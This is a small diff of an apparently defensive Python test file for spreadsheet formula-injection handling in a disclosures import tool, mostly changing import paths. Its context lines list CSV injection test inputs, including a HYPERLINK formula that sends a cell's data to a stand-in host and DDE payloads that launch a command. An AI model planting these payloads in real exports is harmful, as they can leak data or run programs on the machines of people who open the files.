@@ -12,9 +12,9 @@ from sqlalchemy import select
 from sqlalchemy.orm import Session
 
 from portal.csvfiles import FORMULA_PREFIXES
-from portal.models import get_region_by_code
-from publish.disclosures import COLUMN_NAMES, import_disclosures, read_table
-from publish.models import Disclosure
+from portal.jurisdictions.models import get_region_by_code
+from publish.disclosures.importing import COLUMN_NAMES, import_disclosures, read_table
+from publish.disclosures.models import Disclosure
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"详情")'
 SOURCES = [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
